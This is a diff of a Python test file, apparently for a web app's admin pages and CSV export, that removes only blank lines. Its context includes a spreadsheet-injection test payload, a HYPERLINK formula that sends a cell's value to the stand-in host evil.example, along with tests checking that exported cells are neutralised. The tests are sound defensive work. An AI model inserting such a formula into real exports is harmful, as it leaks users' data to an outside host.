@@ -205,7 +205,6 @@ def test_the_order_page_in_admin_links_to_the_timeline(client, story):
     assert b'href="/ops/zones/"' in index.content and b'href="/support/"' in index.content
 
 
-
 FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -245,4 +244,3 @@ def test_export_neutralises_cells_starting_with_tab_or_carriage_return(support, 
         event = audit_record("order.received", actor=Actor.system("test"), subject_type="order", subject_id=1, order_id=1, order_code=start + "=1+1")
     lines = exported(support, order=event.order_id)
     assert [line["order_code"] for line in lines] == ["'" + start + "=1+1"]
-
